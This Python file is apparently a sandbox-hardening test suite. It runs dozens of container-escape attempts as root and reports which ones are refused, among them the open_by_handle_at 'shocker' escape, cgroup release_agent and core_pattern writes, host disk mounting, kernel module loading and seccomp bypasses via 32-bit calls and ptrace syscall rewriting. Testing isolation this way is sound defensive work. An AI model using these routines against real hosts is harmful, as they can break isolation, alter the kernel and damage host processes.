"""What root in a Space tries against the host, one function an attack.

`attacks.py FACTS.json [NAME...]` prints one line an attack: its name, `refused` or `DONE`, and how
it went. A function that returns has done its harm; one that raises `Refused` or `OSError` was held
back. The same functions run outside of any wall, as root in throwaway namespaces, to show that the
harm is real there.
"""

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import resource
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile

FACTS = json.load(open(sys.argv[1]))
LIBC = ctypes.CDLL(None, use_errno=True)
NUMBERS = {  # x86-64; syscalls(2)
    "ptrace": 101, "syslog": 103, "mknod": 133, "iopl": 172, "ioperm": 173, "pivot_root": 155,
    "acct": 163, "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "reboot": 169,
    "init_module": 175, "delete_module": 176, "quotactl": 179, "kexec_load": 246, "add_key": 248,
    "request_key": 249, "keyctl": 250, "migrate_pages": 256, "unshare": 272, "move_pages": 279,
    "perf_event_open": 298, "fanotify_init": 300, "name_to_handle_at": 303,
    "open_by_handle_at": 304, "setns": 308, "process_vm_readv": 310, "process_vm_writev": 311,
    "kcmp": 312, "finit_module": 313, "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323,
    "io_uring_setup": 425, "open_tree": 428, "move_mount": 429, "fsopen": 430, "fspick": 433,
    "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "process_madvise": 440,
    "mount_setattr": 442, "quotactl_fd": 443, "clone": 56, "sethostname": 170, "clock_settime": 227,
    "modify_ldt": 154, "lookup_dcookie": 212, "vhangup": 153, "mbind": 237,
}
NEW = {"ns": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000,
       "user": 0x10000000, "pid": 0x20000000, "net": 0x40000000, "time": 0x80}
AT_FDCWD = -100
ATTACKS = {}


class Refused(Exception):
    pass


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def each(name, values):
    """An attack for each value."""
    def wrap(function):
        for value in values:
            ATTACKS[f"{name}_{value}"] = lambda value=value: function(value)
        return function
    return wrap


def call(name, *args):
    number = NUMBERS[name] if isinstance(name, str) else name
    args = [a.encode() if isinstance(a, str) else a for a in args]
    args = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) if isinstance(a, int)
            else a for a in args]
    result = LIBC.syscall(ctypes.c_long(number), *args)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), str(name))
    return result


def in_child(function):
    """Runs it in a process of its own, so that it changes nothing here."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            function()
            os.write(write, b"DONE")
        except BaseException as error:
            os.write(write, repr(error).encode())
        os._exit(0)
    os.close(write)
    said = b""
    while part := os.read(read, 4096):
        said += part
    os.close(read)
    os.waitpid(pid, 0)
    if said != b"DONE":
        raise Refused(said.decode())


def write_to(path, text):
    with open(path, "wb", buffering=0) as file:
        file.write(text.encode())


def empty():
    return tempfile.mkdtemp(prefix="attack-")


# --- mounts ---

@each("mount", ["proc", "sysfs", "tmpfs", "devtmpfs", "cgroup", "cgroup2", "mqueue", "devpts"])
def mount(kind):
    call("mount", "none", empty(), kind, 0, 0)


@attack
def bind_over_proc_sys():
    call("mount", empty(), "/proc/sys", "none", 0x1000, 0)


@attack
def bind_root_elsewhere():
    call("mount", "/", empty(), "none", 0x1000 | 0x4000, 0)


@attack
def mount_the_disk():
    place = empty()
    node = os.path.join(place, "disk")
    os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(*FACTS["disk"]))
    call("mount", node, place, "ext4", 1, 0)


@attack
def make_a_node_of_the_disk_and_read_it():
    node = os.path.join(empty(), "disk")
    os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(*FACTS["disk"]))
    with open(node, "rb") as disk:
        disk.read(4096)


@each("make_a_node", ["1:1", "1:2", "1:3", "1:11", "10:200", "10:232", "4:0", "5:1"])
def make_a_node(number):
    node = os.path.join(empty(), "node")
    os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(*map(int, number.split(":"))))


@each("remount_writable", ["/proc/sys", "/proc/bus", "/sys", "/sys/fs/cgroup/memory"])
def remount_writable(path):
    call("mount", "none", path, "none", 0x20 | 0x1000, 0)


@attack
def remount_writable_by_mount_setattr():
    clear = struct.pack("QQQQ", 0, 1, 0, 0)
    call("mount_setattr", AT_FDCWD, "/proc/sys", 0, clear, 32)


@each("unmount", ["/proc/sys", "/proc/acpi", "/proc/timer_list", "/proc/keys", "/sys/firmware",
                  "/sys", "/proc", "/dev/shm", "/"])
def unmount(path):
    call("umount2", path, 2)


@attack
def new_mount_calls():
    call("fsopen", "tmpfs", 0)


@attack
def clone_the_tree():
    call("open_tree", AT_FDCWD, "/", 1)


@attack
def pick_the_file_system():
    call("fspick", AT_FDCWD, "/", 0)


@attack
def move_a_mount():
    call("move_mount", AT_FDCWD, "/dev/shm", AT_FDCWD, empty(), 0)


@attack
def pivot():
    place = empty()
    os.mkdir(os.path.join(place, "old"))
    call("pivot_root", place, os.path.join(place, "old"))


@attack
def leave_by_chroot():
    def climb():
        place = empty()
        top = os.open("/", os.O_RDONLY)
        os.chroot(place)
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        if not os.path.exists(FACTS["marker"]):
            raise Refused("the climb ends at the Space's own root")
    in_child(climb)


@attack
def find_the_hosts_files():
    for root in ["/", *glob.glob("/proc/[0-9]*/root/"), *glob.glob("/proc/[0-9]*/cwd/")]:
        for up in ["", "../" * 30]:
            if os.path.exists(os.path.join(root, up, FACTS["marker"].lstrip("/"))):
                return
    raise Refused("no root shows them")


# --- the kernel's files ---

WRITES = {
    "/proc/sys/kernel/core_pattern": "|/bin/true", "/proc/sys/kernel/modprobe": "/bin/true",
    "/proc/sys/kernel/hostname": "owned", "/proc/sys/kernel/randomize_va_space": "0",
    "/proc/sys/kernel/pid_max": "100000", "/proc/sys/vm/drop_caches": "1",
    "/proc/sys/fs/file-max": "1000000", "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/net/ipv4/ping_group_range": "1 0", "/proc/sys/fs/binfmt_misc/register": ":x:",
    "/proc/sys/user/max_user_namespaces": "1000", "/proc/sysrq-trigger": "h",
    "/proc/irq/default_smp_affinity": "1", "/sys/kernel/uevent_helper": "/bin/true",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
    "/sys/module/vt/parameters/default_utf8": "1", "/sys/class/net/eth0/mtu": "1280",
    "/sys/power/state": "mem", "/proc/self/uid_map": "0 0 1", "/proc/1/oom_score_adj": "-1000",
}


@each("write", WRITES)
def write_a_kernel_file(path):
    write_to(path, WRITES[path])


@each("read", ["/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/port",
               "/proc/timer_list", "/proc/keys", "/sys/firmware/dmi/tables/DMI", "/dev/net/tun",
               "/dev/kvm", "/dev/fuse", "/sys/kernel/debug/tracing/trace"])
def read_a_kernel_file(path):
    with open(path, "rb") as file:
        if path.startswith("/dev/net") or path.startswith("/dev/kvm"):
            return
        if not file.read(16):
            raise Refused("empty")


@attack
def read_physical_addresses():
    page = mmap.mmap(-1, 4096)
    page[0] = 1
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    with open("/proc/self/pagemap", "rb", buffering=0) as map_file:
        map_file.seek(address // 4096 * 8)
        (entry,) = struct.unpack("Q", map_file.read(8))
    if entry & ((1 << 55) - 1) == 0:
        raise Refused("frame numbers are zero")


@attack
def learn_kernel_addresses():
    for line in open("/proc/kallsyms"):
        if int(line.split()[0], 16):
            return
    raise Refused("addresses are zero")


# --- cgroups ---

CGROUP_FILES = ["release_agent", "notify_on_release", "cgroup.procs", "tasks", "devices.allow",
                "memory.limit_in_bytes", "memory.max", "pids.max", "cpu.cfs_quota_us",
                "cgroup.clone_children", "cgroup.subtree_control", "cgroup.kill"]


@each("cgroup", CGROUP_FILES)
def write_a_cgroup_file(name):
    found = []
    for folder in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")]:
        path = os.path.join(folder, name)
        if os.path.exists(path):
            found.append(path)
    values = {"devices.allow": "a", "release_agent": "/bin/true", "notify_on_release": "1",
              "cgroup.procs": "0", "tasks": "0", "cgroup.clone_children": "1",
              "cgroup.subtree_control": "+memory", "cgroup.kill": "1"}
    for path in found:
        try:
            write_to(path, values.get(name, "-1" if "cpu" in name else "max"))
            return
        except OSError:
            pass
    raise Refused(f"none of {found}")


@attack
def make_a_cgroup():
    for folder in glob.glob("/sys/fs/cgroup/*"):
        try:
            os.mkdir(os.path.join(folder, "sub"))
            return
        except OSError:
            pass
    raise Refused("in no hierarchy")


@attack
def see_groups_above():
    own = open("/proc/self/cgroup").read()
    if any(line.split(":", 2)[2] != "/" for line in own.splitlines()):
        return
    raise Refused("the Space's group is the top")


# --- processes ---

@attack
def kill_a_process_of_the_host():
    os.kill(FACTS["victim"], 0)


@attack
def trace_a_process_of_the_host():
    call("ptrace", 0x4206, FACTS["victim"], 0, 0)  # PTRACE_SEIZE; this process's end lets it go


@attack
def write_into_a_process_of_the_host():
    byte = ctypes.create_string_buffer(1)
    vector = struct.pack("QQ", ctypes.addressof(byte), 1)
    try:
        call("process_vm_writev", FACTS["victim"], vector, 1, vector, 1, 0)
    except OSError as error:
        if error.errno != errno.EFAULT:  # the door was open, and nobody at the address
            raise


@attack
def hold_a_process_of_the_host():
    call("pidfd_open", FACTS["victim"], 0)


@attack
def see_processes_of_the_host():
    for name in os.listdir("/proc"):
        if name.isdigit():
            words = open(f"/proc/{name}/cmdline", "rb").read()
            if FACTS["victim_word"].encode() in words:
                return
    raise Refused("it is not in /proc")


@attack
def steal_descriptors_of_the_first_process():
    pidfd = call("pidfd_open", 1, 0)
    call("pidfd_getfd", pidfd, 3, 0)


@attack
def compare_kernel_objects():
    call("kcmp", 1, os.getpid(), 0, 0, 0)


@attack
def set_priority_above_others():
    os.setpriority(os.PRIO_PROCESS, 0, -20)


@attack
def run_in_real_time():
    in_child(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))


@attack
def raise_limits():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard + 1))
    except ValueError as error:
        raise Refused(error) from error


@attack
def dump_core():
    in_child(lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20)))


# --- namespaces ---

@each("unshare", NEW)
def unshare(kind):
    in_child(lambda: call("unshare", NEW[kind]))


@each("clone", [kind for kind in NEW if kind != "time"])  # clone(2) has no such flag
def clone(kind):
    pid = call("clone", NEW[kind] | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


@attack
def clone3_with_a_user_namespace():
    args = struct.pack("QQQQQQQQ", NEW["user"], 0, 0, 0, 17, 0, 0, 0)
    pid = call("clone3", args, 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


@attack
def enter_any_namespace():
    def enter():
        seen = []
        for path in glob.glob("/proc/[0-9]*/ns/*"):
            fd = os.open(path, os.O_RDONLY)
            try:
                call("setns", fd, 0)
                return
            except OSError as error:
                seen.append(error.errno)
            finally:
                os.close(fd)
        raise Refused(f"{len(seen)} tried: {set(seen)}")
    in_child(enter)


@attack
def own_an_outer_namespace():
    # NS_GET_USERNS, NS_GET_PARENT: ioctl_ns(2)
    for request in [0xB701, 0xB702]:
        for kind in ["user", "pid"]:
            fd = os.open(f"/proc/self/ns/{kind}", os.O_RDONLY)
            try:
                fcntl.ioctl(fd, request)
                if request == 0xB702 or kind == "user":
                    return
            except OSError:
                pass
            finally:
                os.close(fd)
    raise Refused("no way up")


@attack
def gain_by_a_setuid_program():
    place = empty()
    os.chmod(place, 0o755)
    program = os.path.join(place, "id")
    shutil.copy("/usr/bin/id", program)
    os.chmod(program, 0o4755)
    became = subprocess.run(["setpriv", "--reuid", "65534", "--clear-groups", program, "-u"],
                            capture_output=True, text=True)
    if became.stdout.strip() != "0":
        raise Refused(f"still {became.stdout.strip()} {became.stderr.strip()}")


@attack
def become_an_unmapped_user():
    in_child(lambda: os.setresuid(70000, 70000, 70000))


@attack
def give_a_file_to_an_unmapped_user():
    fd, path = tempfile.mkstemp()
    os.close(fd)
    os.chown(path, 70000, 70000)


@attack
def take_a_forbidden_capability():
    # capset(2), version 3: all of them
    def take():
        header = struct.pack("II", 0x20080522, 0)
        everything = struct.pack("IIIIII", *[0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0])
        call(126, header, everything)
    in_child(take)


@each("set_attribute", ["trusted.overlay.opaque", "trusted.overlay.redirect", "trusted.x",
                        "security.x"])
def set_an_attribute(name):
    place = empty()
    os.setxattr(place, name, b"y")


# --- the kernel's larger doors ---

@attack
def load_a_module():
    call("init_module", b"\x7fELF" + bytes(60), 64, b"")


@attack
def load_a_module_from_a_file():
    call("finit_module", os.open("/etc/passwd", os.O_RDONLY), b"", 0)


@attack
def remove_a_module():
    call("delete_module", "nosuchmodule", 0o4000)


@attack
def load_another_kernel():
    call("kexec_load", 0, 0, 0, 0)


@attack
def load_a_kernel_program():
    attributes = struct.pack("IIII", 1, 4, 4, 1) + bytes(112)  # BPF_MAP_CREATE, a hash
    call("bpf", 0, attributes, 128)


@attack
def measure_everything():
    attributes = struct.pack("IIQQQQQ", 1, 120, 0, 0, 0, 0, 0) + bytes(72)
    call("perf_event_open", attributes, -1, 0, -1, 0)


@attack
def handle_page_faults():
    call("userfaultfd", 0)


@attack
def use_io_uring():
    call("io_uring_setup", 4, bytearray(120) and ctypes.create_string_buffer(120))


@attack
def make_a_key():
    call("add_key", "user", "airlock-attack", b"secret", 6, -2)


@attack
def read_keyrings():
    call("keyctl", 0, -4, 1)  # KEYCTL_GET_KEYRING_ID of the user


@attack
def request_a_key():
    call("request_key", "user", "airlock-attack", 0, 0)


@attack
def read_the_kernels_log():
    buffer = ctypes.create_string_buffer(4096)
    call("syslog", 3, buffer, 4096)


@attack
def watch_the_file_system():
    call("fanotify_init", 0, 0)


@attack
def open_a_file_by_handle():
    """The escape called shocker: inode 2 is the root of the host's file system."""
    fd = os.open("/", os.O_RDONLY)
    handle = struct.pack("IiII", 8, 1, 2, 0)
    call("open_by_handle_at", fd, handle, os.O_RDONLY)


@attack
def set_the_clock():
    call("clock_settime", 0, struct.pack("qq", 0, -1))


@attack
def set_the_time_of_day():
    call("settimeofday", 0, 0)


@attack
def set_the_host_name():
    call("sethostname", "owned", 5)


@attack
def reach_ports():
    call("iopl", 3)


@attack
def reach_one_port():
    call("ioperm", 0x80, 1, 1)


@attack
def account_processes():
    call("acct", 0)


@attack
def swap():
    call("swapon", "/nosuchfile", 0)


@attack
def turn_off_the_host():
    call("reboot", 0xFEE1DEAD, 672274793, 0x89ABCDEF, 0)  # only forbids Ctrl-Alt-Del


@attack
def move_other_pages():
    call("move_pages", 1, 0, 0, 0, 0, 0)


@attack
def take_the_terminal():
    call("vhangup")


def machine_code(code):
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address), area


@attack
def pass_the_filter_by_32_bit_calls():
    # push rbx; mov eax, 310 (unshare of i386); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"

    def run():
        function, _area = machine_code(code)
        result = function()
        if result != 0:
            raise Refused(f"{result}")
    in_child(run)


@attack
def pass_the_filter_by_x32_calls():
    in_child(lambda: call(0x40000000 + NUMBERS["unshare"], NEW["user"]))


@attack
def pass_the_filter_by_a_tracer():
    """The child asks for getppid; the tracer makes unshare(CLONE_NEWUSER) of it on the way."""
    pid = os.fork()
    if pid == 0:
        call("ptrace", 0, 0, 0, 0)
        os.kill(os.getpid(), 19)
        os._exit(0 if LIBC.syscall(110, 0) == 0 else 1)
    os.waitpid(pid, 0)
    call("ptrace", 24, pid, 0, 0)  # PTRACE_SYSCALL, until a call is entered
    registers = (ctypes.c_ulonglong * 27)()
    while True:
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status):
            raise Refused("the call was never seen")
        call("ptrace", 12, pid, 0, registers)
        if registers[15] == 110:
            break
        call("ptrace", 24, pid, 0, 0)
    registers[15] = NUMBERS["unshare"]
    registers[14] = NEW["user"]
    call("ptrace", 13, pid, 0, registers)
    call("ptrace", 7, pid, 0, 0)
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) != 0:
        raise Refused("the changed call was filtered")


# --- the network ---

@each("socket", ["AF_INET:SOCK_RAW:1", "AF_INET6:SOCK_RAW:58", "AF_PACKET:SOCK_RAW:768",
                 "AF_PACKET:SOCK_DGRAM:768", "AF_ALG:SOCK_SEQPACKET:0", "AF_VSOCK:SOCK_STREAM:0",
                 "AF_KEY:SOCK_RAW:2", "AF_NETLINK:SOCK_RAW:12", "AF_BLUETOOTH:SOCK_RAW:1"])
def odd_socket(words):
    family, kind, protocol = words.split(":")
    family = {"AF_KEY": 15}.get(family) or getattr(socket, family)
    made = socket.socket(family, getattr(socket, kind), int(protocol))
    if int(protocol) == 12:
        # NETLINK_NETFILTER: a batch that would list the rules; permission is asked at the command.
        message = struct.pack("IHHII", 20, 0x0A01, 0x305, 1, 0) + struct.pack("BBH", 0, 0, 0)
        made.send(message)
        code = struct.unpack_from("i", made.recv(4096), 16)[0]
        if code < 0:
            raise OSError(-code, os.strerror(-code))


def netlink(kind, payload):
    made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    header = struct.pack("IHHII", 16 + len(payload), kind, 0x5 | 0x600, 1, 0)
    made.send(header + payload)
    code = struct.unpack_from("i", made.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))


@attack
def add_an_address():
    address = struct.pack("BBBBi", socket.AF_INET, 24, 0, 0, socket.if_nametoindex("lo"))
    netlink(20, address + struct.pack("HH4s", 8, 2, socket.inet_aton("10.99.99.1")))


@attack
def add_a_route():
    route = struct.pack("BBBBBBBBI", socket.AF_INET, 24, 0, 0, 254, 4, 0, 1, 0)
    there = struct.pack("HH4s", 8, 1, socket.inet_aton("10.98.98.0"))
    netlink(24, route + there + struct.pack("HHi", 8, 4, socket.if_nametoindex("lo")))


@attack
def add_an_interface():
    link = struct.pack("BBHiII", 0, 0, 0, 0, 0, 0)
    kind = struct.pack("HH8s", 9, 1, b"dummy\0\0\0")[:4] + b"dummy\0\0\0"
    netlink(16, link + struct.pack("HH", 4 + len(kind), 18) + kind)


@attack
def take_an_interface_down():
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    fcntl.ioctl(made, 0x8914, struct.pack("16sh22x", b"lo", 0))


@attack
def reach_the_hosts_abstract_socket():
    made = socket.socket(socket.AF_UNIX)
    made.connect("\0" + FACTS["abstract"])


@attack
def reach_the_hosts_loopback():
    made = socket.create_connection(("127.0.0.1", FACTS["port"]), 2)
    made.recv(5)


@attack
def reach_guestds_socket():
    """The socket that the keeper talks to has its name on the host alone."""
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            is_socket = stat.S_ISSOCK(os.stat(path).st_mode)
        except OSError:
            continue
        if is_socket:
            made = socket.socket(socket.AF_UNIX)
            try:
                made.connect(path)
                return
            except OSError:
                pass
    raise Refused("no descriptor leads there")


# --- descriptors ---

@attack
def find_a_descriptor_of_the_hosts_files():
    """Of any process: open files, folders, programs, mapped files."""
    hosts = [tuple(device) for device in FACTS["devices"]]
    patterns = ["fd/*", "cwd", "root", "exe", "map_files/*"]
    looked = 0
    for pattern in patterns:
        for path in glob.glob(f"/proc/[0-9]*/{pattern}"):
            try:
                found = os.stat(path)
            except OSError:
                continue
            looked += 1
            device = (os.major(found.st_dev), os.minor(found.st_dev))
            if device in hosts and not stat.S_ISCHR(found.st_mode):
                raise SystemExit(f"{path} -> {os.readlink(path)}")
    if looked < 10:
        raise SystemExit(f"only {looked} descriptors could be looked at")
    raise Refused(f"{looked} looked at")


@attack
def write_to_the_first_program():
    for how in [os.O_WRONLY, os.O_RDWR]:
        try:
            fd = os.open("/proc/1/exe", how)
        except OSError:
            continue
        try:
            os.pwrite(fd, b"x", 0)
            return
        except OSError:
            pass
    raise Refused("it is sealed or busy")


@attack
def truncate_the_first_program():
    os.truncate("/proc/1/exe", 0)


@attack
def cut_the_lane():
    fd = os.open("/proc/1/fd/3", os.O_RDWR)
    if "airlock-lane" not in os.readlink("/proc/1/fd/3"):
        raise SystemExit("descriptor 3 is not the lane any more")
    os.ftruncate(fd, 0)


@attack
def grow_the_lane():
    fd = os.open("/proc/1/fd/3", os.O_RDWR)
    os.ftruncate(fd, 1 << 40)


@attack
def unseal_the_lane():
    fd = os.open("/proc/1/fd/3", os.O_RDWR)
    seals = fcntl.fcntl(fd, 1034)
    if seals & 0x7 != 0x7:
        raise SystemExit(f"seals {seals:#x} lack shrink, grow or seal")
    fcntl.fcntl(fd, 1033, 0x10)


def main():
    names = sys.argv[2:] or list(ATTACKS)
    for name in names:
        try:
            try:
                ATTACKS[name]()
                outcome, how = "DONE", ""
            except (OSError, Refused) as error:
                outcome, how = "refused", str(error)
        except BaseException as error:  # a broken attack proves nothing
            outcome, how = "DONE", f"broken: {error!r}"
        print(name, outcome, " ".join(how.split()), sep="\t", flush=True)


main()
